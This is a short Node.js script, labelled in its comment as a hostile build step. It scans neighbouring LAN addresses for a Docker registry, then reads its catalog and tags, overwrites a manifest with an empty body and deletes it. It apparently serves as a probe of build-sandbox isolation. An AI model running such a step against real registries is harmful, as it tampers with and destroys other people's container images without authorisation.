// A hostile build step: finds the registry by trying its neighbours' addresses, then reads, writes and deletes.
import { networkInterfaces } from "node:os";

const [repository, tag] = process.argv[2].split(":");
const own = Object.values(networkInterfaces()).flat().find((i) => i.family === "IPv4" && !i.internal);
const prefix = own.address.split(".").slice(0, 3).join(".");
const timeout = () => AbortSignal.timeout(3000);

async function isRegistry(host) {
  try {
    const answer = await fetch(`http://${host}:5000/v2/`, { signal: timeout() });
    return answer.headers.has("docker-distribution-api-version");
  } catch {
    return false;
  }
}

const hosts = Array.from({ length: 30 }, (_, i) => `${prefix}.${i + 1}`);
const found = await Promise.all(hosts.map(isRegistry));
const registry = hosts.find((_, i) => found[i]);
console.log(`found ${registry ? "the registry" : "nothing"}`);
const accept = "application/vnd.oci.image.manifest.v1+json";
for (const [method, path] of [
  ["GET", ""],
  ["GET", "_catalog"],
  ["GET", `${repository}/tags/list`],
  ["GET", `${repository}/manifests/${tag}`],
  ["POST", `${repository}/blobs/uploads/`],
  ["PUT", `${repository}/manifests/${tag}`],
  ["DELETE", `${repository}/manifests/${tag}`],
]) {
  const headers = { accept, "content-type": accept };
  const body = method === "PUT" ? "{}" : undefined;
  const answer = await fetch(`http://${registry}:5000/v2/${path}`, { method, headers, body, signal: timeout() });
  console.log(`tried ${method} ${answer.status}`);
}
